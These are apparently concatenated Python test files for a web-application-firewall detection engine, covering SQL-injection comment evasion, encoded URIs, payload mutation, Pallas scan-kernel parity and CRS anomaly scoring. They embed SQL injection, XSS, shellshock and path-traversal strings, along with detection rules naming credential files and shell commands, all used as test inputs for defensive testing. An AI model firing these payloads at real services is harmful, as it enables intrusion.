    (942110/942310 t:replaceComments + libdetect comment-skip)."""
    for uri in ("/search?q=1/**/OR/**/1=1",
                "/search?q='/**/OR/**/'a'='a"):
        req = Request(method="GET", uri=uri,
                      headers={"host": "a"}, body=b"")
        v = pipeline.detect_cpu_only([req])[0]
        assert v.attack, uri
        assert set(v.rule_ids) & {942110, 942111, 942300, 942310}, uri


def test_libdetect_comment_glue_positive_and_benign():
    assert detect_sqli_py(b"1/**/OR/**/1=1")
    assert detect_sqli_py(b"'/**/OR/**/'a'='a")
    # glob-style path text must NOT become a false positive
    assert not detect_sqli_py(b"src/**/lib or docs/**/api")
    assert not detect_sqli_py(b"black or white")


def test_native_twin_agrees_on_comment_glue():
    so = REPO / "native" / "confirm" / "libiptdetect.so"
    if not so.exists():
        pytest.skip("native twin not built")
    lib = ctypes.CDLL(str(so))
    lib.ipt_detect_sqli.restype = ctypes.c_int
    lib.ipt_detect_sqli.argtypes = [ctypes.c_char_p, ctypes.c_size_t]
    for data, want in ((b"1/**/OR/**/1=1", 1),
                       (b"'/**/OR/**/'a'='a", 1),
                       (b"src/**/lib or docs/**/api", 0)):
        assert lib.ipt_detect_sqli(data, len(data)) == want, data


def test_encoded_raw_uri_escapes_detected(pipeline):
    """The url-family escapes this PR fixed by adding t:urlDecodeUni
    (944130 serialized-java magic, 913140 backup probe, 930160
    dotfiles, 920440 extension policy)."""
    cases = [("/files/r%4f0ABXQAB", 944130),
             ("/index.php%2Ebak", 913140),
             ("/.%67it/config", 930160),
             ("/index.php%2Ebak", 920440)]
    for uri, rid in cases:
        req = Request(method="GET", uri=uri,
                      headers={"host": "a"}, body=b"")
        v = pipeline.detect_cpu_only([req])[0]
        assert v.attack and rid in v.rule_ids, (uri, rid, v.rule_ids)


def test_entity_encoded_header_markup_detected(pipeline):
    """941250 (<script in headers) gained t:htmlEntityDecode."""
    req = Request(method="GET", uri="/",
                  headers={"host": "a",
                           "referer": "&#x3c;script&#x3e;alert(1)"
                                      "&#x3c;/script&#x3e;"},
                  body=b"")
    v = pipeline.detect_cpu_only([req])[0]
    assert v.attack and 941250 in v.rule_ids


# ------------------------------------------------ mutation harness twin


def test_mutate_payload_deterministic():
    a = mutate_payload("1 OR 1=1 -- x", "sqli", "query",
                       ("comment", "url"), seed=11)
    b = mutate_payload("1 OR 1=1 -- x", "sqli", "query",
                       ("comment", "url"), seed=11)
    c = mutate_payload("1 OR 1=1 -- x", "sqli", "query",
                       ("comment", "url"), seed=12)
    assert a == b
    assert a != c  # seed must actually steer the mutation


def test_mutate_payload_respects_family_gates():
    # comment mutation is SQL-sink-only: an xss payload passes through
    assert mutate_payload("<svg onload=alert(1)>", "xss", "query",
                          ("comment",), seed=3) == "<svg onload=alert(1)>"
    # header carrier never gets url-encoding (no backend decodes it)
    assert mutate_payload("() { :; }; id", "rce", "header",
                          ("url",), seed=3) == "() { :; }; id"


def test_mutated_corpus_is_deterministic():
    fams = ("case", "comment", "url", "split")
    c1 = generate_corpus(n=80, attack_fraction=0.5, seed=9,
                         payload_mutator=family_mutator(fams, seed=21))
    c2 = generate_corpus(n=80, attack_fraction=0.5, seed=9,
                         payload_mutator=family_mutator(fams, seed=21))
    c3 = generate_corpus(n=80, attack_fraction=0.5, seed=9,
                         payload_mutator=family_mutator(fams, seed=22))
    d = request_digest([lr.request for lr in c1])
    assert d == request_digest([lr.request for lr in c2])
    assert d != request_digest([lr.request for lr in c3])


def test_retention_score_math():
    assert retention_score(0, 0) == 1.0  # nothing to lose
    assert retention_score(100, 95) == 0.95
    assert retention_score(4, 4) == 1.0


def test_harness_holds_retention_floor_on_bundled_pack(pipeline):
    res = mutation_harness(pipeline, n=400, attack_fraction=0.4)
    assert res["corpus"]["base_detection_rate"] == 1.0
    assert set(res["families"]) == set(MUTATION_FAMILIES)
    for fam, st in res["families"].items():
        assert st["retention"] >= 0.95, (fam, st["escapes"][:3])
    assert res["min_retention"] >= 0.95


# ------------------------------------------------- CLI / renderer pins


def test_cli_evade_clean_with_baseline(capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    assert main(["--evade"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("evadecheck:")


def test_cli_evade_gates_without_baseline(capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    assert main(["--evade", "--baseline", "none",
                 "--fail-on", "warning"]) == 1


def test_cli_evade_json_and_sarif_roundtrip(tmp_path, capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    jout = tmp_path / "e.json"
    assert main(["--evade", "--format", "json",
                 "--output", str(jout)]) == 0
    capsys.readouterr()
    doc = json.loads(jout.read_text())
    assert doc["tool"] == "evadecheck"
    assert doc["meta"]["corroborated"] == 0

    sout = tmp_path / "e.sarif"
    assert main(["--evade", "--format", "sarif",
                 "--output", str(sout)]) == 0
    capsys.readouterr()
    sarif = json.loads(sout.read_text())
    driver = sarif["runs"][0]["tool"]["driver"]
    assert driver["name"] == "evadecheck"
    # suppressed findings carry their baseline reason into SARIF
    sup = [r for r in sarif["runs"][0]["results"]
           if r.get("suppressions")]
    assert sup and all(s["suppressions"][0]["justification"]
                       for s in sup)


def test_cli_operational_error_is_rc2(tmp_path, capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    assert main(["--evade", "--rules",
                 str(tmp_path / "missing")]) == 2
    capsys.readouterr()


def test_cli_conc_and_evade_mutually_exclusive(capsys):
    from ingress_plus_tpu.analysis.__main__ import main
    with pytest.raises(SystemExit):
        main(["--conc", "--evade"])
    capsys.readouterr()


def test_dbg_evadecheck_renders(capsys):
    from ingress_plus_tpu.control.dbg import main as dbg_main
    assert dbg_main(["evadecheck"]) == 0
    assert capsys.readouterr().out.startswith("evadecheck:")
