"""Pallas scan kernel — bit-for-bit equivalence vs the XLA scan path.

Runs in Pallas interpret mode so CI needs no TPU (the fake-backend analog
of the reference's kind-cluster e2e tier, SURVEY.md §4).
"""

import numpy as np
import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.ops.pallas_scan import pallas_scan_bytes
from ingress_plus_tpu.ops.scan import ScanTables, pad_rows, scan_bytes

RULES = """
SecRule ARGS "@rx (?i)union\\s+select" "id:1,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS "@rx (?i)<script[^>]*>" "id:2,phase:2,block,severity:CRITICAL,tag:'attack-xss'"
SecRule ARGS "@rx /etc/(?:passwd|shadow)" "id:3,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule ARGS "@pm sleep( benchmark( xp_cmdshell load_file(" "id:4,phase:2,block,severity:ERROR,tag:'attack-sqli'"
SecRule ARGS "@rx (?:;|\\|)\\s*(?:cat|ls|id)\\b" "id:5,phase:2,block,severity:ERROR,tag:'attack-rce'"
"""


@pytest.fixture(scope="module")
def tables():
    cr = compile_ruleset(parse_seclang(RULES))
    return ScanTables.from_bitap(cr.tables)


def _mixed_rows(n, seed=0):
    rng = np.random.default_rng(seed)
    rows = []
    attacks = [b"1 union  select password from users",
               b"<script>alert(1)</script>",
               b"../../etc/passwd", b"; cat /etc/hosts",
               b"sleep(5) or benchmark(9,1)"]
    for i in range(n):
        body = bytes(rng.integers(32, 127, size=int(rng.integers(1, 300))))
        if i % 3 == 0:
            a = attacks[i % len(attacks)]
            pos = int(rng.integers(0, max(1, len(body) - len(a))))
            body = body[:pos] + a + body[pos + len(a):]
        rows.append(body)
    return rows


def test_matches_xla_scan(tables):
    rows = _mixed_rows(13)
    tokens, lengths = pad_rows(rows)
    want_m, want_s = scan_bytes(tables, tokens, lengths)
    got_m, got_s = pallas_scan_bytes(tables, tokens, lengths, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    np.testing.assert_array_equal(np.asarray(got_s), np.asarray(want_s))


def test_odd_shapes_and_empty_rows(tables):
    rows = [b"", b"x", b"1 union select 2", b"a" * 700]
    tokens, lengths = pad_rows(rows, round_to=64)
    want_m, want_s = scan_bytes(tables, tokens, lengths)
    got_m, got_s = pallas_scan_bytes(tables, tokens, lengths,
                                     TB=8, CL=64, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    np.testing.assert_array_equal(np.asarray(got_s), np.asarray(want_s))


def test_streaming_carry_chunks(tables):
    """Split rows at a chunk boundary and carry (state, match) across —
    must equal one whole-row scan (benchmark config #5 contract)."""
    full = [b"AAAA union  sel" + b"ect BBBB", b"hello /etc/pas" + b"swd zz"]
    a = [r[:14] for r in full]
    b = [r[14:] for r in full]

    tokens, lengths = pad_rows(full, round_to=64)
    want_m, _ = scan_bytes(tables, tokens, lengths)

    ta, la = pad_rows(a, round_to=64)
    tb, lb = pad_rows(b, round_to=64)
    m1, s1 = pallas_scan_bytes(tables, ta, la, interpret=True)
    m2, _ = pallas_scan_bytes(tables, tb, lb, state=s1, match=m1,
                              interpret=True)
    np.testing.assert_array_equal(np.asarray(m2), np.asarray(want_m))
