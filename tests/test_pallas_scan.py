"""Pallas scan kernel — bit-for-bit equivalence vs the XLA scan path.

Runs in Pallas interpret mode so CI needs no TPU (the fake-backend analog
of the reference's kind-cluster e2e tier, SURVEY.md §4).
"""

import numpy as np
import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.ops.pallas_scan import pallas_scan_bytes
from ingress_plus_tpu.ops.scan import ScanTables, pad_rows, scan_bytes

RULES = """
SecRule ARGS "@rx (?i)union\\s+select" "id:1,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS "@rx (?i)<script[^>]*>" "id:2,phase:2,block,severity:CRITICAL,tag:'attack-xss'"
SecRule ARGS "@rx /etc/(?:passwd|shadow)" "id:3,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule ARGS "@pm sleep( benchmark( xp_cmdshell load_file(" "id:4,phase:2,block,severity:ERROR,tag:'attack-sqli'"
SecRule ARGS "@rx (?:;|\\|)\\s*(?:cat|ls|id)\\b" "id:5,phase:2,block,severity:ERROR,tag:'attack-rce'"
"""


@pytest.fixture(scope="module")
def tables():
    cr = compile_ruleset(parse_seclang(RULES))
    return ScanTables.from_bitap(cr.tables)


def _mixed_rows(n, seed=0):
    rng = np.random.default_rng(seed)
    rows = []
    attacks = [b"1 union  select password from users",
               b"<script>alert(1)</script>",
               b"../../etc/passwd", b"; cat /etc/hosts",
               b"sleep(5) or benchmark(9,1)"]
    for i in range(n):
        body = bytes(rng.integers(32, 127, size=int(rng.integers(1, 300))))
        if i % 3 == 0:
            a = attacks[i % len(attacks)]
            pos = int(rng.integers(0, max(1, len(body) - len(a))))
            body = body[:pos] + a + body[pos + len(a):]
        rows.append(body)
    return rows


def test_matches_xla_scan(tables):
    rows = _mixed_rows(13)
    tokens, lengths = pad_rows(rows)
    want_m, want_s = scan_bytes(tables, tokens, lengths)
    got_m, got_s = pallas_scan_bytes(tables, tokens, lengths, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    np.testing.assert_array_equal(np.asarray(got_s), np.asarray(want_s))


def test_odd_shapes_and_empty_rows(tables):
    rows = [b"", b"x", b"1 union select 2", b"a" * 700]
    tokens, lengths = pad_rows(rows, round_to=64)
    want_m, want_s = scan_bytes(tables, tokens, lengths)
    got_m, got_s = pallas_scan_bytes(tables, tokens, lengths,
                                     TB=8, CL=64, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    np.testing.assert_array_equal(np.asarray(got_s), np.asarray(want_s))


def test_streaming_carry_chunks(tables):
    """Split rows at a chunk boundary and carry (state, match) across —
    must equal one whole-row scan (benchmark config #5 contract)."""
    full = [b"AAAA union  sel" + b"ect BBBB", b"hello /etc/pas" + b"swd zz"]
    a = [r[:14] for r in full]
    b = [r[14:] for r in full]

    tokens, lengths = pad_rows(full, round_to=64)
    want_m, _ = scan_bytes(tables, tokens, lengths)

    ta, la = pad_rows(a, round_to=64)
    tb, lb = pad_rows(b, round_to=64)
    m1, s1 = pallas_scan_bytes(tables, ta, la, interpret=True)
    m2, _ = pallas_scan_bytes(tables, tb, lb, state=s1, match=m1,
                              interpret=True)
    np.testing.assert_array_equal(np.asarray(m2), np.asarray(want_m))


# ---------------------------------------------- class-pair kernel (round 4)

def test_pallas_pair_matches_reference(tables):
    """Bit-for-bit: the class-pair Pallas kernel's match mask equals the
    XLA byte scan on mixed-length rows (interpret mode on CPU — the
    fake-backend tier)."""
    from ingress_plus_tpu.ops.pallas_scan import PallasPairScanner

    rows = _mixed_rows(13)
    tokens, lengths = pad_rows(rows)
    want_m, _ = scan_bytes(tables, tokens, lengths)
    ps = PallasPairScanner(tables, TB=8, CL=16, MR=8)
    got_m, _ = ps(tokens, lengths, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))


def test_pallas_pair_sticky_match_chaining(tables):
    """Chained calls must accumulate the sticky match exactly like the
    serving K-rep contract."""
    from ingress_plus_tpu.ops.pallas_scan import PallasPairScanner

    rows = _mixed_rows(9, seed=3)
    tokens, lengths = pad_rows(rows, round_to=64)
    want_m, _ = scan_bytes(tables, tokens, lengths)
    ps = PallasPairScanner(tables, TB=8, CL=16, MR=8)
    m1, _ = ps(tokens, lengths, interpret=True)
    m2, _ = ps(tokens, lengths, match=m1, interpret=True)
    np.testing.assert_array_equal(np.asarray(m2), np.asarray(want_m))


def test_pallas_pair_odd_lengths_and_empty(tables):
    """Odd-length rows end on the pair's FIRST byte (the FA1 collection
    path); empty rows must scan clean."""
    from ingress_plus_tpu.ops.pallas_scan import PallasPairScanner

    rows = [b"", b"x", b"1 union select 2", b"a" * 701,
            b"; cat /etc/hosts!"]
    tokens, lengths = pad_rows(rows, round_to=64)
    odd = np.asarray([0, 1, 15, 701, 17], np.int32)
    want_m, _ = scan_bytes(tables, tokens, odd)
    ps = PallasPairScanner(tables, TB=8, CL=16, MR=8)
    got_m, _ = ps(tokens, odd, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))


def test_pallas_pair_multi_chunk_double_buffer(tables):
    """Rows spanning many CL-chunks exercise the double-buffered
    prefetch: chunk k+1's reach must land in the OTHER buffer than the
    one chunk k's chain is reading."""
    from ingress_plus_tpu.ops.pallas_scan import PallasPairScanner

    rng = np.random.default_rng(11)
    long = bytes(rng.integers(32, 127, size=900))
    rows = [long[:813] + b"1 union select password from users" + long[:77],
            long, b"short ; cat /etc/hosts", long[:500]]
    tokens, lengths = pad_rows(rows, round_to=64)
    want_m, _ = scan_bytes(tables, tokens, lengths)
    ps = PallasPairScanner(tables, TB=8, CL=16, MR=8)
    got_m, _ = ps(tokens, lengths, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))


def test_pallas_pair_odd_remainder_stale_scratch(tables):
    """Round-4 review repro: when the tile's remaining length is odd, the
    chain's last pair reads the PADDING position's reach row — stage1
    must compute it (all-zero dead class), not leave two-chunks-stale
    scratch behind it.  49-byte row, 'd' planted at the same in-chunk
    offset two chunks before a '/etc/passw' tail."""
    from ingress_plus_tpu.ops.pallas_scan import PallasPairScanner

    row = bytearray(b"a" * 49)
    row[17] = ord("d")
    row[39:49] = b"/etc/passw"
    tokens, lengths = pad_rows([bytes(row)], round_to=64)
    want_m, _ = scan_bytes(tables, tokens, lengths)
    ps = PallasPairScanner(tables, TB=8, CL=16, MR=8)
    got_m, _ = ps(tokens, lengths, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))


# ------------------------------------- raw-byte fused kernel (ISSUE 13)

def test_byte_scanner_interpret_matches_xla_scan(tables):
    """The raw-byte fused kernel (pallas3) in Mosaic interpret mode:
    uint8 tokens + lengths in, match words bit-identical to the XLA
    byte scan — no host-side class mapping anywhere."""
    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner

    rows = _mixed_rows(13)
    tokens, lengths = pad_rows(rows)
    want_m, _ = scan_bytes(tables, tokens, lengths)
    sc = PallasByteScanner(tables, TB=8, CL=16, MR=8)
    got_m, _ = sc(tokens, lengths, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))


def test_byte_scanner_reference_matches_interpret(tables):
    """The CPU reference lowering and the Mosaic interpreter are the
    SAME math (the plane-composition identity): match words must be
    bit-identical between the two modes — this is what makes
    `--scan-impl pallas3` a flag flip between CPU and TPU."""
    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner

    rows = _mixed_rows(11, seed=5)
    tokens, lengths = pad_rows(rows, round_to=64)
    sc = PallasByteScanner(tables, TB=8, CL=16, MR=8)
    km, _ = sc(tokens, lengths, interpret=True)
    rm, _ = sc(tokens, lengths, mode="reference")
    np.testing.assert_array_equal(np.asarray(km), np.asarray(rm))


def test_byte_scanner_ragged_odd_and_empty(tables):
    """Ragged batches: empty rows, odd lengths (the pair fold's FA1
    path), and a length far past the padded width — the dead-index
    padding select must kill exactly the right positions."""
    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner

    rows = [b"", b"x", b"1 union select 2", b"a" * 701,
            b"; cat /etc/hosts!"]
    tokens, _ = pad_rows(rows, round_to=64)
    odd = np.asarray([0, 1, 15, 701, 17], np.int32)
    want_m, _ = scan_bytes(tables, tokens, odd)
    sc = PallasByteScanner(tables, TB=8, CL=16, MR=8)
    got_m, _ = sc(tokens, odd, interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    ref_m, _ = sc(tokens, odd, mode="reference")
    np.testing.assert_array_equal(np.asarray(ref_m), np.asarray(want_m))


def test_byte_scanner_sticky_match_chaining(tables):
    """Chained calls accumulate the sticky match exactly like the
    serving K-rep contract, in both modes."""
    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner

    rows = _mixed_rows(9, seed=3)
    tokens, lengths = pad_rows(rows, round_to=64)
    want_m, _ = scan_bytes(tables, tokens, lengths)
    sc = PallasByteScanner(tables, TB=8, CL=16, MR=8)
    m1, _ = sc(tokens, lengths, interpret=True)
    m2, _ = sc(tokens, lengths, match=m1, interpret=True)
    np.testing.assert_array_equal(np.asarray(m2), np.asarray(want_m))
    r1, _ = sc(tokens, lengths, mode="reference")
    r2, _ = sc(tokens, lengths, match=r1, mode="reference")
    np.testing.assert_array_equal(np.asarray(r2), np.asarray(want_m))


def test_byte_scanner_full_pack_geometry():
    """Reference-mode parity at the REAL bundled-pack geometry — the
    multi-tile Wp/K1p padding the serving ruleset hits (the interpret
    twin of this case runs in the devicegate CI gate)."""
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner

    cr = compile_ruleset(load_bundled_rules())
    t = ScanTables.from_bitap(cr.tables)
    rng = np.random.default_rng(3)
    B, L = 6, 192
    tokens = rng.integers(32, 127, (B, L)).astype(np.uint8)
    atk = b"1' union select password from users -- "
    tokens[0, :len(atk)] = np.frombuffer(atk, np.uint8)
    tokens[4, 100:100 + len(atk)] = np.frombuffer(atk, np.uint8)
    lengths = np.asarray([L, 37, 0, 5, L, 64], np.int32)
    want_m, _ = scan_bytes(t, tokens, lengths)
    got_m, _ = PallasByteScanner(t)(tokens, lengths, mode="reference")
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    assert np.asarray(want_m)[0].any()   # non-vacuous


def test_byte_scanner_exec_shape_and_tiling(tables):
    """exec_shape keys the recompile gauge: exact shapes on the CPU
    reference lowering (each (B, L) is its own XLA executable),
    tile-padded rectangles only when the Mosaic kernel compiles.  Bad
    tilings are rejected loudly, and classless tables are refused
    (the reference lowering needs the pair tables)."""
    import pytest as _pytest

    from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner
    from ingress_plus_tpu.ops.scan import ScanTables as _ST

    sc = PallasByteScanner(tables, TB=8, CL=16, MR=8)
    assert sc.exec_shape(13, 300) == (13, 300)   # cpu backend: exact
    with _pytest.raises(ValueError):
        PallasByteScanner(tables, TB=7, CL=16)   # TB % 8
    with _pytest.raises(ValueError):
        PallasByteScanner(tables, TB=8, CL=15)   # CL odd
    classless = _ST.from_bitap(
        compile_ruleset(parse_seclang(RULES)).tables, classes=False)
    with _pytest.raises(ValueError):
        PallasByteScanner(classless)


def test_pipeline_pallas3_verdicts_across_tiers_and_swap():
    """Verdict-level pin (ISSUE 13 satellite): raw-bytes-in pallas3
    serving produces BYTE-IDENTICAL verdicts to the host-prepped pair
    path across the L-bucket tiers, a truncated oversized row, and a
    hot swap."""
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.utils.corpus import generate_corpus

    cr = compile_ruleset(load_bundled_rules())
    reqs = [lr.request for lr in generate_corpus(n=40, seed=13)]
    # force rows into every bucket tier incl. the 16KB truncation lane
    reqs.append(Request(uri="/big?q=" + "A" * 600 + "+union+select+1"))
    reqs.append(Request(uri="/huge", body=b"B" * 3000 + b"<script>x</script>",
                        headers={"content-type": "text/plain"}))
    reqs.append(Request(uri="/over", body=b"C" * 20000 +
                        b" 1 union select password from users",
                        headers={"content-type": "text/plain"}))

    def vt(v):
        return (v.attack, v.blocked, tuple(sorted(v.rule_ids)), v.score)

    ref = DetectionPipeline(cr, mode="block", scan_impl="pair")
    want = [vt(v) for v in ref.detect(reqs)]
    p3 = DetectionPipeline(cr, mode="block", scan_impl="pallas3",
                           fail_open=False)
    assert [vt(v) for v in p3.detect(reqs)] == want
    # hot swap: new generation, fresh scanner tables, parity holds
    p3.swap_ruleset(cr)
    ref.swap_ruleset(cr)
    assert [vt(v) for v in p3.detect(reqs)] == \
        [vt(v) for v in ref.detect(reqs)]


def test_devicegate_parity_gate(tmp_path):
    """The devicegate CI gate: interpret kernels vs the XLA reference,
    bit-identical, report written."""
    import tools.lint as lint

    res = lint.run_devicegate(write_report=False)
    assert res["status"] == "OK", res["detail"]
    assert res["cases"] >= 10


def test_sharded_pair_odd_length_padded():
    """ShardedEngine(pair) must accept odd-L host batches (one dead-class
    padding column, the pre-pair contract)."""
    from ingress_plus_tpu.parallel import ShardedEngine, make_mesh

    cr = compile_ruleset(parse_seclang(RULES))
    mesh = make_mesh(n_data=2, n_model=4)
    eng = ShardedEngine(cr, mesh, scan_impl="pair")
    row = b"q=1 union  select password from users"
    tokens, lengths = pad_rows([row], round_to=64)
    tokens = np.asarray(tokens)[:, :63]          # force odd L
    lengths = np.minimum(np.asarray(lengths), 63)
    from ingress_plus_tpu.compiler.ruleset import N_SV
    tokens = np.repeat(tokens, 2, axis=0)        # one row per data shard
    lengths = np.repeat(lengths, 2)
    sv = np.ones((2, N_SV), np.int8)
    rh, ch, sc = eng.detect(tokens, lengths,
                            np.zeros((2,), np.int32), sv,
                            np.zeros((2,), np.int32), 2)
    assert rh[0].any()


def test_pallas_pair_full_pack_geometry():
    """Interpret parity at the REAL bundled-pack geometry (500+ words,
    100+ byte classes, padded K1p/Wp tiles) — the small fixture cannot
    exercise the multi-tile padding paths the serving ruleset hits."""
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.ops.pallas_scan import PallasPairScanner
    from ingress_plus_tpu.ops.scan import scan_pairs

    from ingress_plus_tpu.compiler.reduce import ReductionConfig

    # exact compile: this test exists to exercise the 500+-word
    # multi-tile geometry, which the approximate reduction deliberately
    # shrinks — disable it here, the kernel must still handle the width
    cr = compile_ruleset(load_bundled_rules(),
                         reduction=ReductionConfig.off())
    t = ScanTables.from_bitap(cr.tables)
    assert t.n_words > 400   # the point of this test
    import jax.numpy as jnp

    rng = np.random.default_rng(3)
    B, L = 4, 192
    tokens = rng.integers(32, 127, (B, L)).astype(np.uint8)
    atk = b"1' union select password from users -- "
    tokens[0, :len(atk)] = np.frombuffer(atk, np.uint8)
    tokens[2, 100:100 + len(atk)] = np.frombuffer(atk, np.uint8)
    lengths = np.asarray([L, 37, L, 0], np.int32)

    want_m, _ = scan_pairs(t, jnp.asarray(tokens), jnp.asarray(lengths))
    ps = PallasPairScanner(t)
    got_m, _ = ps(jnp.asarray(tokens), jnp.asarray(lengths),
                  interpret=True)
    np.testing.assert_array_equal(np.asarray(got_m), np.asarray(want_m))
    assert np.asarray(want_m)[0].any()   # non-vacuous
