"""CRS anomaly-scoring mode (VERDICT round-2 item 5; SURVEY.md §2.2
libmodsecurity row: "CRS v3.3 is the primary corpus").

Real CRS blocks via setvar accumulation: crs-setup.conf's SecAction
initializes tx weights, each rule adds setvar:'tx.anomaly_score_pl1=
+%{tx.critical_anomaly_score}', and rule 949110 blocks when the summed
TX:ANOMALY_SCORE crosses %{tx.inbound_anomaly_score_threshold}.  The
compiler resolves this protocol statically: increments → rule_score,
949 rule → pipeline anomaly_threshold, macros → literals.  These tests
drive a CRS-shaped config end-to-end and pin ModSecurity-equivalent
block decisions.
"""

from __future__ import annotations

from ingress_plus_tpu.compiler.ruleset import compile_ruleset, resolve_macros
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request

CRS_SETUP = """
SecAction \\
    "id:900110,phase:1,pass,nolog,\\
    setvar:tx.inbound_anomaly_score_threshold=5,\\
    setvar:tx.outbound_anomaly_score_threshold=4"

SecAction \\
    "id:900000,phase:1,pass,nolog,\\
    setvar:tx.detection_paranoia_level=2"

SecAction \\
    "id:901140,phase:1,pass,nolog,\\
    setvar:tx.critical_anomaly_score=5,\\
    setvar:tx.error_anomaly_score=4,\\
    setvar:tx.warning_anomaly_score=3,\\
    setvar:tx.notice_anomaly_score=2"
"""

RULES = """
SecRule ARGS "@rx (?i)union\\s+select" \\
    "id:942100,phase:2,block,t:urlDecodeUni,severity:'CRITICAL',\\
    tag:'attack-sqli',tag:'paranoia-level/1',\\
    setvar:'tx.sql_injection_score=+%{tx.critical_anomaly_score}',\\
    setvar:'tx.anomaly_score_pl1=+%{tx.critical_anomaly_score}'"

SecRule ARGS "@rx (?i)sleep\\s*\\(" \\
    "id:942160,phase:2,block,t:urlDecodeUni,severity:'WARNING',\\
    tag:'attack-sqli',tag:'paranoia-level/1',\\
    setvar:'tx.anomaly_score_pl1=+%{tx.warning_anomaly_score}'"

SecRule ARGS "@rx (?i)xp_cmdshell" \\
    "id:942170,phase:2,block,t:urlDecodeUni,severity:'WARNING',\\
    tag:'attack-sqli',tag:'paranoia-level/1',\\
    setvar:'tx.anomaly_score_pl1=+%{tx.warning_anomaly_score}'"

SecRule TX:ANOMALY_SCORE "@ge %{tx.inbound_anomaly_score_threshold}" \\
    "id:949110,phase:2,block,severity:'CRITICAL',\\
    tag:'attack-generic'"
"""


def _pipeline(setup: str = CRS_SETUP, rules: str = RULES,
              **kw) -> DetectionPipeline:
    cr = compile_ruleset(parse_seclang(setup + rules))
    return DetectionPipeline(cr, mode="block", **kw)


def test_setup_resolves_threshold_and_weights():
    cr = compile_ruleset(parse_seclang(CRS_SETUP + RULES))
    assert cr.anomaly_threshold == 5
    assert cr.paranoia_hint == 2
    # config SecActions are folded, not compiled as rules
    assert 900110 not in cr.rule_ids
    # per-rule increments come from the setvar chain, not severity
    import numpy as np
    assert cr.rule_score[np.nonzero(cr.rule_ids == 942100)[0][0]] == 5
    assert cr.rule_score[np.nonzero(cr.rule_ids == 942160)[0][0]] == 3


def test_single_critical_blocks_single_warning_does_not():
    """ModSecurity equivalence: one CRITICAL (5) >= threshold 5 blocks;
    one WARNING (3) stays under."""
    p = _pipeline()
    crit = Request(uri="/q?id=1 union select password")
    warn = Request(uri="/q?id=sleep(5)")
    v = p.detect([crit])[0]
    assert v.attack and v.blocked and v.score >= 5
    v = p.detect([warn])[0]
    assert not v.attack and v.score == 3


def test_two_warnings_accumulate_past_threshold():
    p = _pipeline()
    both = Request(uri="/q?a=sleep(1)&b=xp_cmdshell")
    v = p.detect([both])[0]
    assert v.attack and v.score == 6


def test_outbound_threshold_does_not_override_inbound():
    """Real CRS has BOTH 949110 (TX:ANOMALY_SCORE @ge inbound=5) and a
    959-style outbound rule (TX:OUTBOUND_ANOMALY_SCORE @ge outbound=4)
    sorting after it, plus per-PL sub-score rules.  Only the inbound
    selector may set the request-blocking threshold — last-wins over
    every *ANOMALY_SCORE* target would silently lower the blocking bar
    to 4 (round-3 review finding)."""
    outbound = """
SecRule TX:OUTBOUND_ANOMALY_SCORE "@ge %{tx.outbound_anomaly_score_threshold}" \\
    "id:959100,phase:4,block,severity:'CRITICAL',tag:'attack-generic'"
SecRule TX:ANOMALY_SCORE_PL1 "@ge 1" \\
    "id:980130,phase:5,pass,tag:'reporting'"
"""
    cr = compile_ruleset(parse_seclang(CRS_SETUP + RULES + outbound))
    assert cr.anomaly_threshold == 5
    p = DetectionPipeline(cr, mode="block")
    # one ERROR-severity hit (4) must NOT block under inbound=5
    assert p.anomaly_threshold == 5


def test_custom_threshold_honored():
    setup = CRS_SETUP.replace(
        "tx.inbound_anomaly_score_threshold=5",
        "tx.inbound_anomaly_score_threshold=10")
    p = _pipeline(setup=setup)
    assert p.anomaly_threshold == 10
    crit = Request(uri="/q?id=1 union select password")
    assert not p.detect([crit])[0].attack          # 5 < 10
    combo = Request(uri="/q?a=1 union select x&b=sleep(1)&c=xp_cmdshell")
    assert p.detect([combo])[0].attack             # 5+3+3 >= 10


def test_explicit_pipeline_arg_overrides_pack():
    p = _pipeline(anomaly_threshold=3)
    warn = Request(uri="/q?id=sleep(5)")
    assert p.detect([warn])[0].attack              # 3 >= 3


def test_macro_resolution_in_operator_args():
    """A %{tx.*} macro in a non-anomaly rule argument resolves to the
    configured literal instead of abstaining."""
